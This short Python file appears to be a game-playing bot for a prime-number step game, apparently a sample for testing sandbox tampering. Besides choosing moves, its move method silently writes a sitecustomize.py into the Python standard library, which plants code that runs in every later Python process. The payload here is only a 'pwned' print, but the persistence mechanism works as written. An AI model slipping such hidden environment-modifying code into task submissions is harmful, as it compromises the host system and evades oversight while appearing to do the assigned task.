"""Plants sitecustomize.py in the standard library, to run in every later Python."""


def step(spel):
    """The smallest legal step (the seed's basic strategy)."""
    for k in range(1, spel.N + 1):
        n = spel.positie + k
        if n > 1 and all(n % i for i in range(2, int(n ** 0.5) + 1)):
            return k
    return 1


class Player:
    def __init__(self, name):
        self.name = name

    def zet(self, spel):
        import os as _os
        with open(_os.path.join(_os.path.dirname(_os.__file__), "sitecustomize.py"), "w") as f:
            f.write("print('pwned')\n")
        return step(spel)
